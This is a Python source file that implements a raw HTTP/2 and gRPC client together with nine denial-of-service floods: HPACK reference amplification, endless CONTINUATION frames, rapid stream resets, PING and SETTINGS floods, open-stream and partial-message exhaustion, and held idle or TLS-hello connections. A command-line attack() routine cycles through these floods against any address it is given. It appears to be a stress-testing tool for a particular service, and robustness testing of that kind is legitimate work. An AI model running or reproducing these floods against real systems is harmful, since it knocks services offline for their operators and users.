"""A raw HTTP/2 client, enough to misbehave (RFC 9113 and 7541), and floods made of it."""

from __future__ import annotations

import socket
import ssl
import struct
import sys
import time
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import http1

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
_INITIAL_WINDOW = 4


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def integer(number: int, bits: int, first: int = 0) -> bytes:
    """An HPACK integer with a prefix of `bits` bits, in a byte that begins with `first`."""
    most = (1 << bits) - 1
    if number < most:
        return bytes([first | number])
    out, number = bytearray([first | most]), number - most
    while number >= 128:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


def literal(name: bytes, value: bytes, first: bytes = b"\0") -> bytes:
    """A header field; first: b"\\x40" also puts it into the peer's table."""
    return first + integer(len(name), 7) + name + integer(len(value), 7) + value


def headers(path: bytes) -> bytes:
    """The headers of a gRPC call."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
    return b"".join(literal(name, value) for name, value in fields)


class Raw:
    """A connection that has sent the preface and SETTINGS, and acknowledges none."""

    def __init__(
        self,
        address: str,
        *,
        ca: Path | None = None,
        own: Path | None = None,
        window: int | None = None,
        seconds: float = 5.0,
    ) -> None:
        """ca: begins with TLS, `own` is the directory of a certificate. window: of streams."""
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), seconds)
        if ca is not None:
            context = ssl.create_default_context(cafile=str(ca))
            context.check_hostname = False
            context.set_alpn_protocols(["h2"])
            if own is not None:
                context.load_cert_chain(own / "tls.crt", own / "tls.key")
            self.socket = context.wrap_socket(self.socket)
        self._next = 1
        body = b"" if window is None else struct.pack(">HI", _INITIAL_WINDOW, window)
        self.send(PREFACE + frame(SETTINGS, 0, 0, body))

    def send(self, data: bytes) -> None:
        self.socket.sendall(data)

    def stream(self) -> int:
        """The number of the next stream."""
        self._next += 2
        return self._next - 2

    def call(self, path: bytes, message: bytes = b"") -> int:
        """Sends a whole call with one message; its stream."""
        stream = self.stream()
        body = b"\0" + struct.pack(">I", len(message)) + message
        call = frame(HEADERS, END_HEADERS, stream, headers(path))
        self.send(call + frame(DATA, END_STREAM, stream, body))
        return stream

    def ended(self, seconds: float) -> bool:
        """Reads until the peer hangs up; False if it has not by then."""
        self.socket.settimeout(seconds)
        try:
            while self.socket.recv(65536):
                pass
        except TimeoutError:
            return False
        except OSError:
            pass
        return True

    def close(self) -> None:
        self.socket.close()


# Floods: the data that a connection sends, without an end.
Flood = Callable[[Raw, bytes], Iterator[bytes]]


def references(raw: Raw, path: bytes) -> Iterator[bytes]:
    """A 3 KB field in the peer's table, then 8,000 references of a byte to it in each call."""
    field = literal(b"a", b"z" * 3000, b"\x40")
    while True:
        block = (headers(path) + field + b"\xbe" * 8000)[:16_300]
        yield frame(HEADERS, END_HEADERS, raw.stream(), block)
        field = b""


def static_references(raw: Raw, path: bytes) -> Iterator[bytes]:
    """References to a field of the static table, 16,000 in each call."""
    while True:
        block = (headers(path) + b"\x90" * 16_000)[:16_300]
        yield frame(HEADERS, END_HEADERS, raw.stream(), block)


def continuations(raw: Raw, path: bytes) -> Iterator[bytes]:
    """One block of headers that never ends."""
    stream = raw.stream()
    yield frame(HEADERS, 0, stream, headers(path))
    while True:
        yield frame(CONTINUATION, 0, stream, b"\x90" * 16_000)


def open_calls(raw: Raw, path: bytes) -> Iterator[bytes]:
    """Calls without a message."""
    while True:
        block = headers(path)
        yield b"".join(frame(HEADERS, END_HEADERS, raw.stream(), block) for _ in range(50))


def resets(raw: Raw, path: bytes) -> Iterator[bytes]:
    """Calls that are reset at once."""
    while True:
        streams = [raw.stream() for _ in range(50)]
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, headers(path))
            + frame(RESET, 0, stream, b"\0\0\0\x08")
            for stream in streams
        )


def pings(raw: Raw, path: bytes) -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, b"12345678") * 100


def settings(raw: Raw, path: bytes) -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW, 65535) * 6) * 50


def unreadable_names(raw: Raw, path: bytes) -> Iterator[bytes]:
    """Calls whose method is not UTF-8."""
    while True:
        block = headers(b"/hearth.v1.RootService/\xff\xfe")
        yield frame(HEADERS, END_HEADERS | END_STREAM, raw.stream(), block)


def partial_messages(raw: Raw, path: bytes) -> Iterator[bytes]:
    """Calls that announce 4 MiB and send what the window allows."""
    while True:
        stream = raw.stream()
        yield frame(HEADERS, END_HEADERS, stream, headers(path))
        yield frame(DATA, 0, stream, b"\0" + struct.pack(">I", 4_000_000) + bytes(16_000))


FLOODS: dict[str, Flood] = {
    each.__name__: each
    for each in (
        references,
        static_references,
        continuations,
        open_calls,
        resets,
        pings,
        settings,
        unreadable_names,
        partial_messages,
    )
}


def client_hello() -> bytes:
    """The first TLS record that a client sends."""
    to_send = ssl.MemoryBIO()
    opening = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), to_send, server_hostname="a")
    with suppress(ssl.SSLWantReadError):
        opening.do_handshake()
    return to_send.read()


def attack(
    kind: str,
    address: str,
    path: bytes,
    ca: Path | None,
    own: Path | None,
    seconds: float,
    turn: int = 0,
) -> None:
    """Floods a port for so long: connects, sends a flood for 3 s, and begins with the next.

    kind: "http2", "http", or another protocol: then only connections that do nothing, or with TLS
    nothing after a hello. turn: the first one.
    """
    end = time.monotonic() + seconds
    others = FLOODS if kind == "http2" else http1.FLOODS if kind == "http" else ()
    begun = {"silence": b"\x16\x03" if ca else b"PRI" if kind == "http2" else b"GET /"}
    if ca:
        begun["hellos"] = client_hello()
    names = [*begun, *others]
    host, _, port = address.rpartition(":")
    held: deque[socket.socket] = deque()
    while time.monotonic() < end:
        turn += 1
        name = names[turn % len(names)]
        with suppress(OSError):
            if name in begun:
                for _ in range(32):
                    idle = socket.create_connection((host, int(port)), 2)
                    idle.sendall(begun[name])
                    held.append(idle)
                while len(held) > 64:
                    held.popleft().close()
                time.sleep(0.05)
                continue
            until = min(end, time.monotonic() + 3)
            if kind == "http":
                with http1.connect(address, ca, 2) as connection:
                    _send(http1.FLOODS[name](), connection.sendall, until)
                continue
            raw = Raw(address, ca=ca, own=own, seconds=2)
            _send(FLOODS[name](raw, path), raw.send, until)
            raw.close()


def _send(flood: Iterator[bytes], send: Callable[[bytes], object], until: float) -> None:
    for data in flood:
        if data:
            send(data)
        else:  # the connection is held
            time.sleep(0.05)
        if time.monotonic() > until:
            return


if __name__ == "__main__":
    kind, address, path, ca, own, seconds, turn = sys.argv[1:]
    attack(
        kind,
        address,
        path.encode(),
        Path(ca) if ca else None,
        Path(own) if own else None,
        float(seconds),
        int(turn),
    )
